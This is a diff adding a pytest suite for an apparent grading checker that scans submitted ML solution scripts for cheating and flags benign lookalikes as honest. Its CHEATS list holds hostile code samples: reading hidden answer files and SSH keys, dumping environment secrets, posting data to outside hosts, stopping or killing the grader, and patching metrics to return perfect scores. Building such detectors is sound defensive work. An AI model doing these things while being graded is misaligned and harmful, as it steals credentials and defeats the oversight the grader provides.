@@ -1,0 +1,273 @@
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from assay.core.candidate import Candidate
+from assay.grading import (
+    Blend,
+    PredictionStats,
+    Severity,
+    blend_script,
+    check_candidate,
+    check_predictions,
+    check_script,
+)
+from support.gradings import a_task
+
+TASK = a_task(Path("/somewhere"))
+
+CHEATS: list[tuple[str, str, str]] = [
+    ("absolute answers", "L01", 'import pandas as pd\ny = pd.read_csv("/work/run/private/answers.csv")'),
+    ("up and over", "L01", 'import pandas as pd\ny = pd.read_csv("../../private/fold-0.csv")'),
+    ("up by joining", "L01", 'import os\np = os.path.join("..", "..", "private", "x.csv")\nopen(p)'),
+    ("up by pathlib", "L01", 'from pathlib import Path\nopen(Path("input") / ".." / ".." / "events.jsonl")'),
+    ("another trial", "L01", 'open("../../0007-ridge/output/submission.csv", "w").write("id,target")'),
+    ("the engine's memory", "L01", 'import os\nopen(f"/proc/{os.getppid()}/mem", "rb")'),
+    ("the engine's environment", "L12", 'open("/proc/1/environ").read()'),
+    ("keys of the user", "L01", 'open("/root/.ssh/id_rsa").read()'),
+    ("search the disk", "L01", 'import glob\nfor p in glob.glob("/**/answers.csv", recursive=True): print(p)'),
+    ("search above", "L01", 'import os\nfor root, _, files in os.walk(".."): print(files)'),
+    ("rglob from the root", "L01", 'from pathlib import Path\nprint(list(Path("/").rglob("*answers*")))'),
+    ("answers in the input", "L04", 'import pandas as pd\ny = pd.read_csv("input/test_labels.csv")'),
+    ("ground truth", "L04", 'import numpy as np\ny = np.load("./private/ground_truth.npy")'),
+    ("send by socket", "L05", 'import socket\ns = socket.socket()\ns.connect(("10.0.0.1", 80))'),
+    ("send by requests", "L05", 'import requests\nrequests.post("https://example.org", data=open("input/train.csv"))'),
+    ("fetch by urllib", "L05", 'from urllib.request import urlopen as get\nget("http://example.org/answers.csv")'),
+    ("trace", "L05", 'import ctypes, os\nlibc = ctypes.CDLL("libc.so.6")\nlibc.ptrace(16, os.getppid(), 0, 0)'),
+    ("stop the engine", "L05", "import os, signal\nboss = os.getppid()\nos.kill(boss, signal.SIGSTOP)"),
+    ("kill everyone", "L05", "import os\nos.kill(-1, 9)"),
+    ("environment of all", "L05", "import psutil\nfor p in psutil.process_iter(): print(p.environ())"),
+    ("patched metric", "L06", "import sklearn.metrics\nsklearn.metrics.roc_auc_score = lambda y, p: 1.0"),
+    ("patched by alias", "L06", "from sklearn import metrics as m\nm.f1_score = lambda *a, **k: 1.0"),
+    ("patched by setattr", "L06", 'import sklearn.metrics as m\nsetattr(m, "log_loss", lambda *a: 0.0)'),
+    ("patched by mock", "L06", 'from unittest import mock\nmock.patch("sklearn.metrics.accuracy_score").start()'),
+    ("replaced module", "L06", 'import sys, types\nsys.modules["sklearn.metrics"] = types.ModuleType("m")'),
+    ("the grader itself", "L06", "from assay.grading.metrics import compute"),
+    (
+        "target among the features",
+        "L03",
+        'import pandas as pd\ntrain = pd.read_csv("input/train.csv")\n'
+        'X = train[["age", "target"]]\nmodel.fit(X, train["target"])',
+    ),
+    (
+        "whole frame as features",
+        "L03",
+        'import pandas as pd\nTARGET = "target"\ntrain = pd.read_csv("input/train.csv")\n'
+        "y = train[TARGET]\nmodel.fit(train, y)",
+    ),
+    (
+        "target mean before the split",
+        "L02",
+        "import pandas as pd\nfrom sklearn.model_selection import train_test_split\n"
+        'train = pd.read_csv("input/train.csv")\nmeans = train.groupby("city")["target"].mean()\n'
+        'train["city_mean"] = train["city"].map(means)\na, b = train_test_split(train)',
+    ),
+    (
+        "target mean by transform",
+        "L02",
+        'import pandas as pd\nfrom sklearn.model_selection import KFold\ntrain = pd.read_csv("input/train.csv")\n'
+        'train["m"] = train.groupby("city")["target"].transform("mean")\n'
+        "for a, b in KFold(5).split(train): pass",
+    ),
+    (
+        "foreign target encoder before the split",
+        "L02",
+        "import category_encoders as ce\nfrom sklearn.model_selection import cross_val_score\n"
+        "X2 = ce.TargetEncoder().fit_transform(X, y)\nprint(cross_val_score(model, X2, y))",
+    ),
+    ("a key", "L12", 'import os\nprint(len(os.environ["OPENAI_API_KEY"]))'),
+    ("the whole environment", "L12", "import os\nprint(dict(os.environ))"),
+    ("a link as output", "L13", 'import os\nos.symlink("/data/answers.csv", "output/submission.csv")'),
+    ("a FIFO as output", "L13", 'import os\nos.mkfifo("./output/submission.csv")'),
+    ("packed code", "L14", 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'),
+]
+
+HONEST: list[tuple[str, str]] = [
+    ("plain", 'import pandas as pd\nt = pd.read_csv("./input/train.csv")\nt.to_csv("./output/submission.csv")'),
+    ("reads every input", 'from pathlib import Path\nfor p in Path("input").rglob("*"): print(p, p.stat().st_size)'),
+    ("temporary files", 'open("/tmp/cache.bin", "wb").write(b"x")\nopen("/dev/null", "w")'),
+    ("habit of another site", 'import os\nROOT = "../input/" if os.path.exists("../input") else "input/"'),
+    ("a fallback folder", 'import os\nbase = "/kaggle/input/x" if os.path.isdir("/kaggle/input/x") else "./input"'),
+    ("asks for cores and memory", 'open("/proc/meminfo").read()\nopen("/proc/self/status").read()'),
+    ("inner up and down", 'import pandas as pd\npd.read_csv("./input/side/../train.csv")'),
+    (
+        "texts with slashes",
+        'import re\nx = re.sub("/home/", "", t)\ny = "and/or"\nz = "http://a/../b"\nfmt = "%d/%m/%Y"',
+    ),
+    ("docstring", '"""Reads ../../private/answers.csv? No, never /etc/shadow."""\nx = 1'),
+    ("message", 'print("looked into ../../private/answers.csv: not there")'),
+    ("free memory", 'import ctypes\nctypes.CDLL("libc.so.6").malloc_trim(0)'),
+    ("own processes", "import multiprocessing as mp\nwith mp.Pool(2) as p: p.map(f, x)"),
+    (
+        "own memory",
+        "import psutil, os\nprint(psutil.Process(os.getpid()).memory_info().rss, psutil.Process().cpu_times())",
+    ),
+    (
+        "own members",
+        'import subprocess, sys\nsubprocess.run([sys.executable, "solution.py"], cwd="members/1", check=True)',
+    ),
+    ("host name", "import socket\nprint(socket.gethostname())"),
+    ("local server", 'import requests\nrequests.get("http://localhost:8080/ping")'),
+    ("kills its child", "import os, subprocess\np = subprocess.Popen(['sleep', '1'])\nos.kill(p.pid, 9)"),
+    ("thread counts", 'import os\nos.environ["OMP_NUM_THREADS"] = "2"\nprint(os.environ.get("HOME"))'),
+    ("environment for a child", "import os, subprocess\nsubprocess.run(['ls'], env=dict(os.environ, A='1'))"),
+    ("no tracking", 'import os\nos.environ["WANDB_API_KEY"] = ""\nos.environ.setdefault("HF_TOKEN", "")'),
+    ("own metric object", "class M: pass\nmetric = M()\nmetric.f1_score = 3\nmodel.metric = 'auc'"),
+    ("accelerated library", "from sklearnex import patch_sklearn\npatch_sklearn()"),
+    (
+        "target encoding inside a fold",
+        "import pandas as pd\nfrom sklearn.model_selection import KFold\n"
+        'train = pd.read_csv("input/train.csv")\nfor a, b in KFold(5).split(train):\n'
+        '    part = train.iloc[a]\n    m = part.groupby("city")["target"].mean()\n    enc = train.iloc[b]["city"].map(m)',
+    ),
+    (
+        "a look at the means",
+        "import pandas as pd\nfrom sklearn.model_selection import train_test_split\n"
+        'train = pd.read_csv("input/train.csv")\nprint(train.groupby("city")["target"].mean())\n'
+        "train_test_split(train)",
+    ),
+    (
+        "count encoding before the split",
+        "import pandas as pd\nfrom sklearn.model_selection import train_test_split\n"
+        'train = pd.read_csv("input/train.csv")\n'
+        'train["n"] = train.groupby("city")["id"].transform("count")\n'
+        "train_test_split(train)",
+    ),
+    (
+        "mean of another column before the split",
+        "import pandas as pd\nfrom sklearn.model_selection import train_test_split\n"
+        'train = pd.read_csv("input/train.csv")\n'
+        'train["n"] = train.groupby("city")["age"].transform("mean")\n'
+        "train_test_split(train)",
+    ),
+    (
+        "cross-fitting encoder",
+        "from sklearn.preprocessing import TargetEncoder\nfrom sklearn.model_selection import cross_val_score\n"
+        "X2 = TargetEncoder().fit_transform(X, y)\ncross_val_score(m, X2, y)",
+    ),
+    (
+        "scaling train and test together",
+        "import pandas as pd\nfrom sklearn.preprocessing import StandardScaler\n"
+        "both = StandardScaler().fit_transform(pd.concat([train, test]))\ntrain_test_split(both)",
+    ),
+    (
+        "target popped off",
+        'import pandas as pd\ntrain = pd.read_csv("input/train.csv")\ny = train.pop("target")\nmodel.fit(train, y)',
+    ),
+    (
+        "target dropped in place",
+        'import pandas as pd\ntrain = pd.read_csv("input/train.csv")\ny = train["target"]\n'
+        'train.drop(columns=["target"], inplace=True)\nmodel.fit(train, y)',
+    ),
+    (
+        "target removed from the list",
+        'cols = ["a", "target"]\ncols.remove("target")\nmodel.fit(train[cols], train["target"])',
+    ),
+    (
+        "lags of the target",
+        'import pandas as pd\ntrain = pd.read_csv("input/train.csv")\n'
+        'train["lag"] = train.groupby("series")["target"].shift(1)\nmodel.fit(train[["lag"]], train["target"])',
+    ),
+    (
+        "fills the target of the test rows",
+        'import pandas as pd\ntest = pd.read_csv("input/test.csv")\ntest["target"] = model.predict(test)\n'
+        'test[["id", "target"]].to_csv("output/submission.csv")\nprint(test["target"].mean())',
+    ),
+    ("own answers file", 'import pandas as pd\nd.to_csv("cache/answers.csv")\npd.read_csv("cache/answers.csv")'),
+    ("labels given by the user", 'import pandas as pd\nlabels = pd.read_csv("input/train_labels.csv")'),
+    ("data frame eval", 'd.eval("a = b / c", inplace=True)\nmodel.eval()'),
+    ("an exit method", "with pool() as p:\n    p.exit()\nclass A:\n    def exit(self): return self.quit()"),
+    ("a link to the input", 'from pathlib import Path\nPath("members/1/input").symlink_to(Path("input").resolve())'),
+    ("no Python", "this is { not python"),
+]
+
+
+@pytest.mark.parametrize(("code", "source"), [(c[1], c[2]) for c in CHEATS], ids=[c[0] for c in CHEATS])
+def test_a_cheat_is_rejected_by_the_named_check(code: str, source: str) -> None:
+    rejecting = [f for f in check_script(source, TASK) if f.severity is Severity.REJECT]
+    assert code in {f.code for f in rejecting}
+    assert all(f.line >= 1 and f.sentence for f in rejecting)
+
+
+@pytest.mark.parametrize("source", [h[1] for h in HONEST], ids=[h[0] for h in HONEST])
+def test_an_honest_oddity_is_not_rejected(source: str) -> None:
+    assert [f for f in check_script(source, TASK) if f.severity is Severity.REJECT] == []
+
+
+@pytest.mark.parametrize(
+    ("code", "source"),
+    [
+        ("L01", 'x = open("/home/me/data.csv")'),
+        ("L02", "X = StandardScaler().fit_transform(X)\ncross_val_score(m, X, y)"),
+        ("L04", 'import pandas as pd\ntest = pd.read_csv("input/test.csv")\nprint(test["target"].mean())'),
+        ("L07", "try:\n    f()\nexcept:\n    x = 1"),
+        ("L07", "try:\n    f()\nexcept Exception:\n    pass"),
+        ("L08", "import sys\nsys.exit(0)"),
+        ("L09", "print(1)"),
+    ],
+)
+def test_what_may_be_a_mistake_is_only_told(code: str, source: str) -> None:
+    found = check_script(source, TASK)
+    assert code in {f.code for f in found}
+    assert {f.severity for f in found} == {Severity.WARN}
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'import sys\nif __name__ == "__main__":\n    sys.exit(main())\nopen("output/submission.csv", "w")',
+        'try:\n    import lightgbm\nexcept ImportError:\n    lightgbm = None\nopen("output/submission.csv", "w")',
+        'try:\n    f()\nexcept Exception as e:\n    print(e)\n    raise\nopen("output/submission.csv", "w")',
+        'import os\nNAME = "submission.csv"\nframe.to_csv(os.path.join("output", NAME))',
+    ],
+)
+def test_good_habits_are_not_even_warned_about(source: str) -> None:
+    assert check_script(source, TASK) == []
+
+
+def test_the_users_own_files_may_have_any_name() -> None:
+    from dataclasses import replace
+
+    source = 'import pandas as pd\npd.read_csv("input/test_labels.csv")\nopen("output/submission.csv", "w")'
+    task = replace(TASK, data=replace(TASK.data, side=("test_labels.csv",)))
+    assert check_script(source, task) == []
+    assert [f.code for f in check_script(source, TASK)] == ["L04"]
+
+
+def test_every_file_of_a_candidate_is_read() -> None:
+    candidate = Candidate(
+        kind="script",
+        files={
+            "solution.py": 'import helper\nopen("output/submission.csv", "w")',
+            "helper.py": "import os\nos.kill(os.getppid(), 9)",
+            "notes.md": "os.kill(os.getppid(), 9)",
+        },
+        entry="solution.py",
+    )
+    found = check_candidate(candidate, TASK)
+    assert [(f.code, f.line) for f in found] == [("L05", 2)]
+    assert found[0].sentence.startswith("helper.py: ")
+
+
+def test_the_blend_script_passes_every_check() -> None:
+    script = blend_script(TASK, Blend(weights={3: 0.75, 5: 0.25}))
+    assert check_script(script, TASK) == []
+
+
+@pytest.mark.parametrize(
+    ("stats", "codes"),
+    [
+        (PredictionStats(rows=100, distinct=1, top_share=1.0), ["L10"]),
+        (PredictionStats(rows=5, distinct=1, top_share=1.0), []),
+        (PredictionStats(rows=10_000, distinct=2, top_share=0.9999), ["L10"]),
+        (PredictionStats(rows=100, distinct=2, top_share=0.97), []),
+        (PredictionStats(rows=100, distinct=90, top_share=0.02, same_as="age"), ["L11"]),
+        (PredictionStats(rows=100, distinct=100, top_share=0.01, follows_ids=True), ["L11"]),
+    ],
+)
+def test_odd_predictions_are_told(stats: PredictionStats, codes: list[str]) -> None:
+    findings = check_predictions(TASK, stats)
+    assert [f.code for f in findings] == codes
+    assert {f.severity for f in findings} <= {Severity.WARN}
